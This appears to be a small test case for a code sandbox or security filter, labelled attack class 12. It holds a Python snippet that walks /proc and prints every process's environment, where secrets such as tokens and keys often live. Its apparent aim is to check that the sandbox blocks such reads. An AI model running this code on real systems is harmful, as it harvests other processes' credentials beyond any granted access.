# attack-class: 12
# title: os.walk over /proc reading every environ
# why: os.walk is allowed, /proc is not

import os

for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            print(entry, open(os.path.join("/proc", entry, "environ"), "rb").read())
        except OSError:
            pass
